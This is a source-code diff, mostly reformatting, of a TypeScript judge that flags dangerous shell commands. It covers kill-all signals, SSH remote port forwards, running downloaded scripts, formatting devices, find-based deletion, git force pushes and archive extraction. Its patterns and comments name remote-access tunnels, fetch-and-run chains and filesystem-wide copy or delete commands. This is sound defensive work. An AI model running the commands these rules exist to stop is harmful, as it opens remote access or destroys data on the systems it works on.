+        add(ctx, "shell_input");
       return;
     }
     case "alias":
@@ -1499,10 +2127,28 @@ export function judgeCommand(ctx: JudgeContext): void {
     case "pkill":
     case "killall": {
       // Every process of a user, group or session, with no name to narrow it down.
-      const ops = operands(args, name === "pkill" ? "uUgGPsFtnoe" : "uoy", ["--euid", "--uid", "--group", "--pgroup", "--parent", "--session", "--pidfile", "--terminal", "--signal", "--user", "--older-than", "--younger-than"]);
+      const ops = operands(args, name === "pkill" ? "uUgGPsFtnoe" : "uoy", [
+        "--euid",
+        "--uid",
+        "--group",
+        "--pgroup",
+        "--parent",
+        "--session",
+        "--pidfile",
+        "--terminal",
+        "--signal",
+        "--user",
+        "--older-than",
+        "--younger-than",
+      ]);
       if (args.some((a) => /^-(?:0|s\s*0|-signal=0)$/.test(a.text))) return; // only asks whether they exist
-      if (!ops.length && args.some((a) => /^-[a-zA-Z]*[uUgGPs]$|^--(?:euid|uid|user|group|pgroup|parent|session)/.test(a.text))) add(ctx, "kill_all_processes");
-      if (ops.some((o) => SYSTEM_DAEMON.test(o.text)) && !args.some((a) => RELOAD_SIGNAL.test(a.text))) add(ctx, "stop_service");
+      if (
+        !ops.length &&
+        args.some((a) => /^-[a-zA-Z]*[uUgGPs]$|^--(?:euid|uid|user|group|pgroup|parent|session)/.test(a.text))
+      )
+        add(ctx, "kill_all_processes");
+      if (ops.some((o) => SYSTEM_DAEMON.test(o.text)) && !args.some((a) => RELOAD_SIGNAL.test(a.text)))
+        add(ctx, "stop_service");
       return;
     }
     case "shred":
@@ -1538,7 +2184,11 @@ export function judgeCommand(ctx: JudgeContext): void {
     // A remote forward (`ssh -R 2222:localhost:22 host`, `-R 0:…`): a port on the other machine leads into this one.
     case "ssh":
     case "autossh":
-      if (args.some((a) => /^-[A-Za-z]*R/.test(a.text) || /^-oRemoteForward[=\s]/i.test(a.text)) || args.some((a, k) => a.text === "-o" && /^RemoteForward[=\s]/i.test(args[k + 1]?.text ?? ""))) add(ctx, "remote_access");
+      if (
+        args.some((a) => /^-[A-Za-z]*R/.test(a.text) || /^-oRemoteForward[=\s]/i.test(a.text)) ||
+        args.some((a, k) => a.text === "-o" && /^RemoteForward[=\s]/i.test(args[k + 1]?.text ?? ""))
+      )
+        add(ctx, "remote_access");
       return;
     case "http":
     case "https":
@@ -1627,9 +2277,14 @@ export function judgeCommand(ctx: JudgeContext): void {
       return add(ctx, "shell_input");
     }
     // The script run (not the module of `python -m`, not an argument after -c/-e code).
-    const codeFlag = args.findIndex((a) => (lang === "python" ? /^-[A-Za-z]*[cm]/ : lang === "shell" ? /^-[A-Za-z]*c[A-Za-z]*$/ : /^-[A-Za-z]*[eEr]$/).test(a.text));
+    const codeFlag = args.findIndex((a) =>
+      (lang === "python" ? /^-[A-Za-z]*[cm]/ : lang === "shell" ? /^-[A-Za-z]*c[A-Za-z]*$/ : /^-[A-Za-z]*[eEr]$/).test(
+        a.text,
+      ),
+    );
     const before = firstOperand ? args.indexOf(firstOperand) : -1;
-    if (firstOperand && (codeFlag < 0 || codeFlag > before) && isFetched(ctx, firstOperand.text)) return add(ctx, "shell_input");
+    if (firstOperand && (codeFlag < 0 || codeFlag > before) && isFetched(ctx, firstOperand.text))
+      return add(ctx, "shell_input");
     const written = firstOperand ? writtenScript(ctx, firstOperand.text) : undefined;
     if (written !== undefined) return written === null ? add(ctx, "shell_input") : feedCode(ctx, lang, written);
     if (lang !== "shell") judgeInlineInterpreter(ctx, lang);
@@ -1651,18 +2306,37 @@ export function judgeCommand(ctx: JudgeContext): void {
     judgeSystemState(alt, name);
     judgeMoreEffects(alt, name, start);
   }
-  const sql = sqlOfClient(name, args, ctx.redirects, ctx.producer ? producedLiteral(ctx.producer) : undefined, ctx.producer != null);
+  const sql = sqlOfClient(
+    name,
+    args,
+    ctx.redirects,
+    ctx.producer ? producedLiteral(ctx.producer) : undefined,
+    ctx.producer != null,
+  );
   if (sql && !sqliteInWorkdir(ctx, name, sql)) for (const key of judgeSql(sql)) add(ctx, key);
   // Destructive verbs of infrastructure CLIs that no rule of the tool's own judged (cli_verbs.ts).
   if (ctx.out.length === findingsBefore) judgeCliVerbs(ctx, name, true);
   // On another host every service is someone's: restarts, reloads and starts of any unit change that machine.
-  if (ctx.remote && ctx.out.length === findingsBefore && ((name === "systemctl" && /^(?:restart|reload|start|enable|try-restart|reload-or-restart|daemon-reload)$/.test(sub(args)[0] ?? "")) || (name === "service" && /^(?:restart|reload|start|force-reload)$/.test(sub(args)[1] ?? "")))) add(ctx, "service_change");
+  if (
+    ctx.remote &&
+    ctx.out.length === findingsBefore &&
+    ((name === "systemctl" &&
+      /^(?:restart|reload|start|enable|try-restart|reload-or-restart|daemon-reload)$/.test(sub(args)[0] ?? "")) ||
+      (name === "service" && /^(?:restart|reload|start|force-reload)$/.test(sub(args)[1] ?? "")))
+  )
+    add(ctx, "service_change");
   judgeElevated(ctx, name, findingsBefore);
 }
 
 /** A privileged or remote program with no finding, not exempt (ELEVATED_EXEMPT): its effect is not known, so it is asked about. */
 function judgeElevated(ctx: JudgeContext, name: string, findingsBefore: number): void {
-  if ((ctx.privileged || ctx.remote) && ctx.out.length === findingsBefore && ELEVATED_RULE && !elevatedExempt(name, ctx.args)) add(ctx, "elevated_unreadable");
+  if (
+    (ctx.privileged || ctx.remote) &&
+    ctx.out.length === findingsBefore &&
+    ELEVATED_RULE &&
+    !elevatedExempt(name, ctx.args)
+  )
+    add(ctx, "elevated_unreadable");
 }
 
 /**
@@ -1692,7 +2366,8 @@ function judgeCliVerbs(ctx: JudgeContext, name: string, generic = false): void {
   if (moved) runs.push([name, moved]);
   if (interpreterLanguage(name) !== null) {
     const k = ctx.args.findIndex((a) => !a.text.startsWith("-"));
-    if (k >= 0 && !ctx.args.slice(0, k).some((a) => /^-[A-Za-z]*[cmeE]$/.test(a.text))) runs.push([posix.basename(ctx.args[k]!.text), ctx.args.slice(k + 1)]);
+    if (k >= 0 && !ctx.args.slice(0, k).some((a) => /^-[A-Za-z]*[cmeE]$/.test(a.text)))
+      runs.push([posix.basename(ctx.args[k]!.text), ctx.args.slice(k + 1)]);
   }
   for (const [tool, args] of runs) for (const key of cliVerbEffects(tool, args, generic)) add(ctx, key);
   if (!generic && moved && DB_RESET.test(`${name} ${moved.map((a) => a.text).join(" ")}`)) add(ctx, "sql_drop");
@@ -1707,14 +2382,45 @@ function onlyChecksOrHelps(ctx: JudgeContext, name: string): boolean {
   const texts = ctx.args.map((a) => a.text);
   const end = texts.indexOf("--");
   const before = end >= 0 ? texts.slice(0, end) : texts;
-  const runsOthers = SHELLS.has(name) || interpreterLanguage(name) !== null || /^(?:sudo|doas|env|xargs|parallel|ssh|docker|podman|kubectl|oc|nohup|nice|timeout|watch|time|exec|command|builtin|eval|source|\.|su|runuser|chroot|nsenter|unshare|setsid|stdbuf|strace|ltrace|gdb|valgrind|flock|systemd-run|script|expect|tmux|screen|make|npx|npm|yarn|pnpm|bunx|deno|uv|poetry|pipenv|conda|find|fd|git|sh|salt|ansible|pdsh|fab|pyinfra)$/.test(name);
+  const runsOthers =
+    SHELLS.has(name) ||
+    interpreterLanguage(name) !== null ||
+    /^(?:sudo|doas|env|xargs|parallel|ssh|docker|podman|kubectl|oc|nohup|nice|timeout|watch|time|exec|command|builtin|eval|source|\.|su|runuser|chroot|nsenter|unshare|setsid|stdbuf|strace|ltrace|gdb|valgrind|flock|systemd-run|script|expect|tmux|screen|make|npx|npm|yarn|pnpm|bunx|deno|uv|poetry|pipenv|conda|find|fd|git|sh|salt|ansible|pdsh|fab|pyinfra)$/.test(
+      name,
+    );
   // An interpreter running a script (not code given by -c/-e/-r, not a module of -m) with --help: the script prints its usage.
   const lang = interpreterLanguage(name);
-  if (lang !== null && lang !== "awk" && before.includes("--help") && !before.some((t) => /^-[A-Za-z]*[cerER]$|^--eval$|^-p$/.test(t)) && before.some((t) => /\.(?:py|rb|pl|php|js|mjs|ts|lua|R|jl|exs)$/.test(t))) return true;
-  if (!runsOthers && before.some((t, k) => (t === "--help" || t === "--version") && !/^-(?:c|e|ex|-eval|-command|-execute)$/.test(before[k - 1] ?? ""))) return true;
-  const flag = (short: string, long: string[] = []) => before.some((t) => long.includes(t) || (new RegExp(`^-[A-Za-z]*[${short}][A-Za-z]*$`).test(t) && !t.startsWith("--")));
-  if ((/^(?:mke2fs|mkfs\.ext[234])$/.test(name) || (name === "mkfs" && /^ext[234]$/.test(texts[texts.indexOf("-t") + 1] ?? ""))) && flag("n")) return true;
-  if (/^(?:lv|vg|pv)(?:remove|reduce|create|extend|resize|change|rename|convert|split|merge)$/.test(name) && (before.includes("-t") || before.includes("--test"))) return true;
+  if (
+    lang !== null &&
+    lang !== "awk" &&
+    before.includes("--help") &&
+    !before.some((t) => /^-[A-Za-z]*[cerER]$|^--eval$|^-p$/.test(t)) &&
+    before.some((t) => /\.(?:py|rb|pl|php|js|mjs|ts|lua|R|jl|exs)$/.test(t))
+  )
+    return true;
+  if (
+    !runsOthers &&
+    before.some(
+      (t, k) =>
+        (t === "--help" || t === "--version") && !/^-(?:c|e|ex|-eval|-command|-execute)$/.test(before[k - 1] ?? ""),
+    )
+  )
+    return true;
+  const flag = (short: string, long: string[] = []) =>
+    before.some(
+      (t) => long.includes(t) || (new RegExp(`^-[A-Za-z]*[${short}][A-Za-z]*$`).test(t) && !t.startsWith("--")),
+    );
+  if (
+    (/^(?:mke2fs|mkfs\.ext[234])$/.test(name) ||
+      (name === "mkfs" && /^ext[234]$/.test(texts[texts.indexOf("-t") + 1] ?? ""))) &&
+    flag("n")
+  )
+    return true;
+  if (
+    /^(?:lv|vg|pv)(?:remove|reduce|create|extend|resize|change|rename|convert|split|merge)$/.test(name) &&
+    (before.includes("-t") || before.includes("--test"))
+  )
+    return true;
   if (name === "nft" && (before.includes("-c") || before.includes("--check"))) return true;
   if (/^ip6?tables-restore$/.test(name) && (before.includes("-t") || before.includes("--test"))) return true;
   if ((name === "sfdisk" || name === "wipefs") && (before.includes("-n") || before.includes("--no-act"))) return true;
@@ -1769,19 +2475,34 @@ function writtenScript(ctx: JudgeContext, path: string): string | null | undefin
 /** mkfs on an image file in the working directory is harmless; on a device or an unknown target it is not. */
 function judgeFormat(ctx: JudgeContext): void {
   // A device anywhere in the words is the target, however the options parse.
-  if (ctx.args.some((a) => /^\/dev\/(?!null$|zero$|stdout$|stderr$)/.test(a.text))) return add(ctx, "format_filesystem");
-  const fs = (ctx.args.find((a, k) => ctx.args[k - 1]?.text === "-t")?.text ?? ctx.name.replace(/^mkfs\.?/, "")).toLowerCase();
+  if (ctx.args.some((a) => /^\/dev\/(?!null$|zero$|stdout$|stderr$)/.test(a.text)))
+    return add(ctx, "format_filesystem");
+  const fs = (
+    ctx.args.find((a, k) => ctx.args[k - 1]?.text === "-t")?.text ?? ctx.name.replace(/^mkfs\.?/, "")
+  ).toLowerCase();
   // Options taking a value differ by file system (-F, -n, -C are flags for ext, values for vfat).
-  const valueOpts = /^(?:ext\d|mke2fs)$/.test(fs) || ctx.name === "mke2fs"
-    ? "bCdEgGiIJlLmMNoOrtTUez"
-    : /^(?:vfat|fat|msdos|mkdosfs)$/.test(fs) || ctx.name === "mkdosfs"
-      ? "bDfFghimnrRsSt"
-      : fs === "xfs"
-        ? "bdilnprsLmt"
-        : fs === "btrfs"
-          ? "bdmnsLORrUt"
-          : "tLbCNIOUEgGjJlmMoTrSpd";
-  const ops = operands(ctx.args, valueOpts, ["--type", "--label", "--uuid", "--features", "--rootdir", "--byte-count", "--data", "--metadata", "--nodesize", "--sectorsize"]);
+  const valueOpts =
+    /^(?:ext\d|mke2fs)$/.test(fs) || ctx.name === "mke2fs"
+      ? "bCdEgGiIJlLmMNoOrtTUez"
+      : /^(?:vfat|fat|msdos|mkdosfs)$/.test(fs) || ctx.name === "mkdosfs"
+        ? "bDfFghimnrRsSt"
+        : fs === "xfs"
+          ? "bdilnprsLmt"
+          : fs === "btrfs"
+            ? "bdmnsLORrUt"
+            : "tLbCNIOUEgGjJlmMoTrSpd";
+  const ops = operands(ctx.args, valueOpts, [
+    "--type",
+    "--label",
+    "--uuid",
+    "--features",
+    "--rootdir",
+    "--byte-count",
+    "--data",
+    "--metadata",
+    "--nodesize",
+    "--sectorsize",
+  ]);
   const target = ops.find((o) => !/^\d+$/.test(o.text));
   if (!target) return add(ctx, "format_filesystem");
   const w = whereIn(ctx, target.text);
@@ -1795,8 +2516,15 @@ const FETCHERS = /^(?:curl|wget|base64|base32|basenc|xxd|openssl|gpg2?|uudecode|
 function notefetched(ctx: JudgeContext): void {
   const fromPipe = ctx.producer && FETCHERS.test(ctx.producer.name);
   if (FETCHERS.test(ctx.name) || fromPipe) {
-    for (const r of ctx.redirects) if ((r.op === ">" || r.op === ">>") && !r.fd) ctx.fetched.add(fetchKey(ctx, r.target));
-    const o = ctx.args.findIndex((a) => /^-[A-Za-z]*[oO]$/.test(a.text) || a.text === "--output" || a.text === "--output-document" || a.text === "--out");
+    for (const r of ctx.redirects)
+      if ((r.op === ">" || r.op === ">>") && !r.fd) ctx.fetched.add(fetchKey(ctx, r.target));
+    const o = ctx.args.findIndex(
+      (a) =>
+        /^-[A-Za-z]*[oO]$/.test(a.text) ||
+        a.text === "--output" ||
+        a.text === "--output-document" ||
+        a.text === "--out",
+    );
     if (o >= 0 && ctx.args[o + 1]) ctx.fetched.add(fetchKey(ctx, ctx.args[o + 1]!.text));
     // aria2c -d DIR -o NAME (also --dir=DIR, --out=NAME) saves DIR/NAME.
     if (ctx.name === "aria2c") {
@@ -1808,10 +2536,16 @@ function notefetched(ctx: JudgeContext): void {
     }
     // wget without -O, curl -O / --remote-name: each URL is saved under its basename (wget: under -P DIR).
     const texts = ctx.args.map((a) => a.text);
-    const remoteName = ctx.name === "wget" ? !texts.some((t) => /^-[A-Za-z]*O|^--output-document/.test(t)) : ctx.name === "curl" && texts.some((t) => /^-[A-Za-z]*O[A-Za-z]*$|^--remote-name(?:-all)?$/.test(t));
+    const remoteName =
+      ctx.name === "wget"
+        ? !texts.some((t) => /^-[A-Za-z]*O|^--output-document/.test(t))
+        : ctx.name === "curl" && texts.some((t) => /^-[A-Za-z]*O[A-Za-z]*$|^--remote-name(?:-all)?$/.test(t));
     if (remoteName) {
       const p = texts.findIndex((t) => t === "-P" || t === "--directory-prefix");
-      const dir = p >= 0 ? texts[p + 1] : texts.find((t) => t.startsWith("--directory-prefix="))?.slice("--directory-prefix=".length);
+      const dir =
+        p >= 0
+          ? texts[p + 1]
+          : texts.find((t) => t.startsWith("--directory-prefix="))?.slice("--directory-prefix=".length);
       for (const t of texts) {
         const base = /^(?:https?|ftp):\/\/[^/?#]+\/(?:[^?#]*\/)?([^/?#]+)(?:[?#].*)?$/i.exec(t)?.[1];
         if (base && ctx.fetched.size < 64) ctx.fetched.add(fetchKey(ctx, dir ? posix.join(dir, base) : base));
@@ -1824,17 +2558,38 @@ function notefetched(ctx: JudgeContext): void {
     const texts = ctx.args.map((a) => a.text);
     const at = texts.findIndex((t) => t === "clone" || t === "checkout" || t === "co");
     if (at < 0 || (ctx.name === "git" && texts[at] !== "clone")) return;
-    const ops = operands(ctx.args.slice(at + 1), "bcoju", ["--branch", "--config", "--origin", "--depth", "--reference", "--separate-git-dir", "--upload-pack", "--template", "--filter", "--jobs"]).map((a) => a.text);
+    const ops = operands(ctx.args.slice(at + 1), "bcoju", [
+      "--branch",
+      "--config",
+      "--origin",
+      "--depth",
+      "--reference",
+      "--separate-git-dir",
+      "--upload-pack",
+      "--template",
+      "--filter",
+      "--jobs",
+    ]).map((a) => a.text);
     const url = ops[0];
     if (url === undefined) return;
-    const dir = ops[1] ?? url.replace(/[?#].*$/, "").replace(/\/+$/, "").replace(/\.git$/, "").split(/[/:]/).pop() ?? "";
+    const dir =
+      ops[1] ??
+      url
+        .replace(/[?#].*$/, "")
+        .replace(/\/+$/, "")
+        .replace(/\.git$/, "")
+        .split(/[/:]/)
+        .pop() ??
+      "";
     if (dir) ctx.fetched.add(fetchKey(ctx, dir).replace(/\/*$/, "/"));
   }
 }
 
 /** A path as the fetched-files record keys it: joined to the directory the command runs in. */
 function fetchKey(ctx: JudgeContext, path: string): string {
-  return posix.normalize(path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path));
+  return posix.normalize(
+    path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path),
+  );
 }
 
 /** A file this command line downloaded or decoded, or one under a directory it cloned. */
@@ -1842,7 +2597,8 @@ function isFetched(ctx: JudgeContext, path: string): boolean {
   if (!ctx.fetched.size) return false;
   const key = fetchKey(ctx, path);
   if (ctx.fetched.has(key)) return true;
-  for (const f of ctx.fetched) if (f.endsWith("/") && (key.startsWith(f) || (f === "./" && !/^(?:\/|\.\.(?:\/|$)|[~$])/.test(key)))) return true;
+  for (const f of ctx.fetched)
+    if (f.endsWith("/") && (key.startsWith(f) || (f === "./" && !/^(?:\/|\.\.(?:\/|$)|[~$])/.test(key)))) return true;
   return false;
 }
 
@@ -1875,7 +2631,14 @@ function judgeInlineInterpreter(ctx: JudgeContext, lang: CodeLanguage): void {
     if (code) feedLiteralCode(ctx, lang, code);
     return;
   }
-  const flag = lang === "python" ? /^-[A-Za-z]*c$/ : lang === "php" ? /^-[A-Za-z]*[rR]$/ : lang === "r" || lang === "lua" ? /^-[A-Za-z]*e$/ : /^-[A-Za-z]*[eE]$|^--eval$|^-p$|^--print$/;
+  const flag =
+    lang === "python"
+      ? /^-[A-Za-z]*c$/
+      : lang === "php"
+        ? /^-[A-Za-z]*[rR]$/
+        : lang === "r" || lang === "lua"
+          ? /^-[A-Za-z]*e$/
+          : /^-[A-Za-z]*[eE]$|^--eval$|^-p$|^--print$/;
   for (let i = 0; i < args.length; i++) {
     const a = args[i]!;
     if (flag.test(a.text) && args[i + 1]) {
@@ -1898,13 +2661,18 @@ function bindArgv(lang: CodeLanguage, code: JudgedArg, rest: JudgedArg[]): Judge
     const a = words[k];
     return a && !/\$|`/.test(a.text) ? JSON.stringify(a.text) : null;
   };
-  const sub = (re: RegExp, offset: number) => (text: string) => text.replace(re, (m, n: string) => value(Number(n) - offset) ?? m);
+  const sub = (re: RegExp, offset: number) => (text: string) =>
+    text.replace(re, (m, n: string) => value(Number(n) - offset) ?? m);
   const text =
-    lang === "python" ? sub(/\bsys\.argv\[(\d+)\]/g, 1)(code.text)
-    : lang === "ruby" ? sub(/\bARGV\[(\d+)\]/g, 0)(code.text)
-    : lang === "perl" ? sub(/\$ARGV\[(\d+)\]/g, 0)(code.text)
-    : lang === "node" ? sub(/\bprocess\.argv\[(\d+)\]/g, 1)(code.text)
-    : code.text;
+    lang === "python"
+      ? sub(/\bsys\.argv\[(\d+)\]/g, 1)(code.text)
+      : lang === "ruby"
+        ? sub(/\bARGV\[(\d+)\]/g, 0)(code.text)
+        : lang === "perl"
+          ? sub(/\$ARGV\[(\d+)\]/g, 0)(code.text)
+          : lang === "node"
+            ? sub(/\bprocess\.argv\[(\d+)\]/g, 1)(code.text)
+            : code.text;
   return text === code.text ? code : { ...code, text };
 }
 
@@ -1924,14 +2692,34 @@ function judgeFind(ctx: JudgeContext): void {
   if (!roots.length) roots.push(".");
   const texts = args.map((a) => a.text);
   // Every file of the whole file system copied (`find / -type f -exec cp {} ./copy/ \;`): the disk fills.
-  const depthCut = texts.some((t, i) => /^-(?:maxdepth)$/.test(t) && Number(texts[i + 1]) <= 3) || texts.some((t) => /^-(?:i?name|i?path|i?regex|newer|size|user|group|perm)$/.test(t));
-  if (roots.some((r) => /^\/+$|^\/\*$/.test(r)) && !depthCut && texts.some((t, i) => /^-(?:exec|execdir)$/.test(t) && /(?:^|\/)(?:cp|rsync|tar|zip|install|ditto|gzip)$/.test(texts[i + 1] ?? ""))) return add(ctx, "resource_exhaustion");
+  const depthCut =
+    texts.some((t, i) => /^-(?:maxdepth)$/.test(t) && Number(texts[i + 1]) <= 3) ||
+    texts.some((t) => /^-(?:i?name|i?path|i?regex|newer|size|user|group|perm)$/.test(t));
+  if (
+    roots.some((r) => /^\/+$|^\/\*$/.test(r)) &&
+    !depthCut &&
+    texts.some(
+      (t, i) =>
+        /^-(?:exec|execdir)$/.test(t) && /(?:^|\/)(?:cp|rsync|tar|zip|install|ditto|gzip)$/.test(texts[i + 1] ?? ""),
+    )
+  )
+    return add(ctx, "resource_exhaustion");
   const deletes = texts.includes("-delete");
-  const execRm = texts.some((t, i) => /^-(?:exec|execdir|ok|okdir)$/.test(t) && /(?:^|\/)(?:rm|shred|unlink)$/.test(texts[i + 1] ?? ""));
+  const execRm = texts.some(
+    (t, i) => /^-(?:exec|execdir|ok|okdir)$/.test(t) && /(?:^|\/)(?:rm|shred|unlink)$/.test(texts[i + 1] ?? ""),
+  );
   if (!deletes && !execRm) return;
   const key = deletes ? "find_delete" : "find_exec_rm";
   // A test run by -exec (`! -exec test -e {} \;`, `-exec grep -q … {} \;`) is a predicate that narrows the match too.
-  const filtered = texts.some((t, i) => /^-(?:i?name|i?path|i?wholename|i?regex|newer\S*|[acm]time|[acm]min|size|empty|user|group|perm|links|inum|samefile|xtype)$/.test(t) || (/^-(?:exec|execdir)$/.test(t) && /^(?:test|\[|grep|file|cmp|diff|stat|git)$/.test(texts[i + 1] ?? "") && (texts[i + 1] !== "grep" || texts.slice(i + 2).some((x) => /^-[a-zA-Z]*[qlL]/.test(x)))));
+  const filtered = texts.some(
+    (t, i) =>
+      /^-(?:i?name|i?path|i?wholename|i?regex|newer\S*|[acm]time|[acm]min|size|empty|user|group|perm|links|inum|samefile|xtype)$/.test(
+        t,
+      ) ||
+      (/^-(?:exec|execdir)$/.test(t) &&
+        /^(?:test|\[|grep|file|cmp|diff|stat|git)$/.test(texts[i + 1] ?? "") &&
+        (texts[i + 1] !== "grep" || texts.slice(i + 2).some((x) => /^-[a-zA-Z]*[qlL]/.test(x)))),
+  );
   const follow = args.some((a) => a.text === "-L" || a.text === "-H" || a.text === "-follow");
   for (const r of roots) {
     const w = whereIn(ctx, r, follow);
@@ -1953,7 +2741,8 @@ function judgeShred(ctx: JudgeContext): void {
   }
 }
 
-const PROTECTED_BRANCH = /^(?:refs\/heads\/)?(?:main|master|trunk|develop|development|dev|release(?:[-/].*)?|prod(?:uction)?|stable|live|gh-pages|HEAD|@)$/i;
+const PROTECTED_BRANCH =
+  /^(?:refs\/heads\/)?(?:main|master|trunk|develop|development|dev|release(?:[-/].*)?|prod(?:uction)?|stable|live|gh-pages|HEAD|@)$/i;
 
 /** git: clean -f acting outside the working directory; force pushes to shared branches; remote branch deletion. */
 function judgeGit(ctx: JudgeContext): void {
@@ -1973,7 +2762,9 @@ function judgeGit(ctx: JudgeContext): void {
   const rest = args.slice(i + 1);
   if (subcommand === "clean") {
     if (!hasFlag(rest, "f", ["--force"]) || hasFlag(rest, "n", ["--dry-run"])) return;
-    const paths = operands(rest, "e", ["--exclude"]).map((o) => (o.text.startsWith("/") || dir === "." ? o.text : posix.join(dir, o.text)));
+    const paths = operands(rest, "e", ["--exclude"]).map((o) =>
+      o.text.startsWith("/") || dir === "." ? o.text : posix.join(dir, o.text),
+    );
     for (const p of [dir, ...paths]) {
       const w = whereIn(ctx, p);
       noteInside(ctx, p);
@@ -1985,28 +2776,52 @@ function judgeGit(ctx: JudgeContext): void {
     if (!rest.some((a) => a.text === "--hard")) return;
     // To a named feature branch (`origin/feature/ui`): the agent's own branch made to match; to HEAD, a commit,
     // a tag, HEAD~n or a shared branch: local work discarded.
-    const target = operands(rest).map((o) => o.text).filter((t) => t !== "--")[0];
+    const target = operands(rest)
+      .map((o) => o.text)
+      .filter((t) => t !== "--")[0];
     const m = target === undefined ? null : /^(?:refs\/remotes\/)?([\w.-]+)\/([\w./-]+)$/.exec(target);
     if (!m || PROTECTED_BRANCH.test(m[2]!) || /\.\.|\/$/.test(m[2]!)) add(ctx, "git_reset_hard");
     return;
   }
   if (subcommand !== "push") return;
   const texts = rest.map((a) => a.text);
-  if (hasFlag(rest.filter((a) => !a.text.startsWith("--")), "n")) return; // dry run
-  const force = hasFlag(rest.filter((a) => !a.text.startsWith("--")), "f") || texts.some((t) => /^--force(?:-with-lease(?:=.*)?)?$/.test(t));
+  if (
+    hasFlag(
+      rest.filter((a) => !a.text.startsWith("--")),
+      "n",
+    )
+  )
+    return; // dry run
+  const force =
+    hasFlag(
+      rest.filter((a) => !a.text.startsWith("--")),
+      "f",
+    ) || texts.some((t) => /^--force(?:-with-lease(?:=.*)?)?$/.test(t));
   const ops = operands(rest, "o", ["--push-option", "--receive-pack", "--exec", "--repo"]).map((o) => o.text);
   const refspecs = ops.slice(1);
   if (texts.some((t) => t === "--mirror" || t === "--prune")) return add(ctx, "git_force_push");
   // Deleting a remote branch: routine for a feature branch (its work is merged or lives on elsewhere); a shared
   // branch (main, release, …), a pattern or a computed name is flagged.
   const deleting = texts.some((t) => t === "--delete" || t === "-d");
-  const deleted = deleting ? refspecs.map((r) => r.replace(/^\+/, "")) : refspecs.filter((r) => r.startsWith(":")).map((r) => r.slice(1));
+  const deleted = deleting
+    ? refspecs.map((r) => r.replace(/^\+/, ""))
+    : refspecs.filter((r) => r.startsWith(":")).map((r) => r.slice(1));
   if (deleting && !deleted.length) return add(ctx, "git_force_push");
   // A release tag (`v1.0.0`, `2.3.1`) deleted on the remote is a published version gone for everyone.
-  for (const d of deleted) if (d === "" || /\$|`|\*/.test(d) || PROTECTED_BRANCH.test(d.replace(/^refs\/heads\//, "")) || /^refs\/(?!heads\/)/.test(d) || d.includes(":") || /^v?\d+(?:\.\d+)+(?:[-+][\w.]+)?$/.test(d)) return add(ctx, "git_force_push");
+  for (const d of deleted)
+    if (
+      d === "" ||
+      /\$|`|\*/.test(d) ||
+      PROTECTED_BRANCH.test(d.replace(/^refs\/heads\//, "")) ||
+      /^refs\/(?!heads\/)/.test(d) ||
+      d.includes(":") ||
+      /^v?\d+(?:\.\d+)+(?:[-+][\w.]+)?$/.test(d)
+    )
+      return add(ctx, "git_force_push");
   if (deleted.length) return;
   const forcedRefs = refspecs.filter((r) => force || r.startsWith("+"));
-  if (force && (refspecs.length === 0 || texts.includes("--all") || texts.includes("--branches"))) return add(ctx, "git_force_push");
+  if (force && (refspecs.length === 0 || texts.includes("--all") || texts.includes("--branches")))
+    return add(ctx, "git_force_push");
   for (const r of forcedRefs) {
     const dest = r.replace(/^\+/, "").split(":").pop() ?? "";
     if (dest === "" || /\$|`|\*/.test(dest) || PROTECTED_BRANCH.test(dest)) return add(ctx, "git_force_push");
@@ -2018,9 +2833,20 @@ function judgeArchive(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
   const texts = args.map((a) => a.text);
   if (name === "unzip" || name === "bsdunzip") {
-    if (hasFlag(args.filter((a) => a.text !== "-d"), "lvtzZ")) return;
+    if (
+      hasFlag(
+        args.filter((a) => a.text !== "-d"),
+        "lvtzZ",
+      )
+    )
+      return;
     const d = texts.indexOf("-d");
-    const dest = d >= 0 ? texts[d + 1] : /^-d./.test(texts.find((t) => /^-d./.test(t)) ?? "") ? texts.find((t) => /^-d./.test(t))!.slice(2) : undefined;
+    const dest =
+      d >= 0
+        ? texts[d + 1]
+        : /^-d./.test(texts.find((t) => /^-d./.test(t)) ?? "")
+          ? texts.find((t) => /^-d./.test(t))!.slice(2)
+          : undefined;
     extractInto(ctx, dest);
     return;
   }
@@ -2032,7 +2858,10 @@ function judgeArchive(ctx: JudgeContext, name: string): void {
   }
   if (name === "cpio") {
     // -i extracts into the working directory (or -D DIR); -p copies the listed files into DIR.
-    const bundled = texts.filter((t) => /^-[a-zA-Z]+$/.test(t)).map((t) => t.slice(1)).join("");
+    const bundled = texts
+      .filter((t) => /^-[a-zA-Z]+$/.test(t))
+      .map((t) => t.slice(1))
+      .join("");
     let dir: string | undefined;
     for (let k = 0; k < texts.length; k++) {
       if (texts[k] === "-D" || texts[k] === "--directory") dir = texts[k + 1];
@@ -2040,17 +2869,31 @@ function judgeArchive(ctx: JudgeContext, name: string): void {
     }
     if (/t/.test(bundled) || texts.includes("--list")) return;
     if (/i/.test(bundled) || texts.includes("--extract")) return extractInto(ctx, dir);
-    if (/p/.test(bundled) || texts.includes("--pass-through")) extractInto(ctx, dir ?? operands(args, "DEFHIMORV", ["--directory", "--format", "--file"])[0]?.text);
+    if (/p/.test(bundled) || texts.includes("--pass-through"))
+      extractInto(ctx, dir ?? operands(args, "DEFHIMORV", ["--directory", "--format", "--file"])[0]?.text);
     return;
   }
   // tar: the mode is in the first word (`xf`, `-xzf`) or a long option.
   const first = texts[0] ?? "";
   const bundled = /^-?[A-Za-z]+$/.test(first) && !first.startsWith("--") ? first.replace(/^-/, "") : "";
-  const flags = [bundled, ...texts.slice(1).filter((t) => /^-[A-Za-z]+$/.test(t)).map((t) => t.slice(1))].join("");
+  const flags = [
+    bundled,
+    ...texts
+      .slice(1)
+      .filter((t) => /^-[A-Za-z]+$/.test(t))
+      .map((t) => t.slice(1)),
+  ].join("");
   const extract = /x/.test(flags) || texts.some((t) => t === "--extract" || t === "--get");
   const create = /[cru]/.test(flags) || texts.some((t) => t === "--create" || t === "--append" || t === "--update");
   if (create && texts.includes("--remove-files")) {
-    for (const op of operands(args.slice(bundled ? 1 : 0), "fCbHKLNTVX", ["--file", "--directory", "--exclude", "--files-from", "--transform"])) judgeDelete(ctx, op.text, true);
+    for (const op of operands(args.slice(bundled ? 1 : 0), "fCbHKLNTVX", [
+      "--file",
+      "--directory",
+      "--exclude",
+      "--files-from",
+      "--transform",
+    ]))
+      judgeDelete(ctx, op.text, true);
   }
   if (!extract) return;
